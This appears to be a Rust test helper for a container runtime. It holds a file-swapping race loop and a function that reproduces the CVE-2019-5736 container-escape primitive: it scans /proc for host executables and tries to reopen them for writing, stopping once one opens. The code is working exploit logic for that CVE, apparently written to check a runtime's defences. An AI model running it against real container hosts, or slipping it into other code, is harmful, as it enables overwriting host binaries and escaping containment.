//! What races against the engine from inside.

use rustix::fs::{CWD, RenameFlags, renameat_with};
use std::{
    collections::VecDeque,
    fs::{self, File},
    io,
    os::{fd::AsRawFd as _, unix::fs::MetadataExt as _},
};

/// Has the first of each pair change places with the second, for ever.
pub fn swap(pairs: &[&str]) -> io::Result<()> {
    loop {
        for pair in pairs.chunks_exact(2) {
            renameat_with(CWD, pair[0], CWD, pair[1], RenameFlags::EXCHANGE)?;
        }
    }
}

/// How many files of programs are held to be tried again.
const HELD: usize = 64;

/// CVE-2019-5736: opens for writing a file that a process ran, once it is run
/// no more. With a path, only that file counts; without one, every file that
/// is not of this container: neither this program nor its busybox. Prints what
/// it could open and ends, or goes on for ever.
pub fn overwrite(only: Option<&str>) -> io::Result<()> {
    let same = |about: &fs::Metadata| (about.dev(), about.ino());
    let own = ["/proc/self/exe", "/bin/busybox"];
    let own: Vec<_> = own.iter().map(|path| fs::metadata(path).map(|m| same(&m))).collect();
    let wanted = only.map(fs::metadata).transpose()?.map(|about| same(&about));
    let is_prey = |about: &fs::Metadata| match wanted {
        Some(wanted) => same(about) == wanted,
        None => own.iter().flatten().all(|own| *own != same(about)),
    };
    let mut held: VecDeque<File> = VecDeque::new();
    println!("hunting");
    loop {
        for entry in fs::read_dir("/proc")?.flatten() {
            let exe = entry.path().join("exe");
            let is_process = entry.file_name().as_encoded_bytes()[0].is_ascii_digit();
            let Some(file) = is_process.then(|| File::open(&exe).ok()).flatten() else { continue };
            if file.metadata().is_ok_and(|about| is_prey(&about)) {
                held.truncate(HELD - 1);
                held.push_front(file);
            }
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if File::options().write(true).open(&path).is_ok() {
                println!("open for writing: {}", fs::read_link(&path)?.display());
                return Ok(());
            }
        }
    }
}
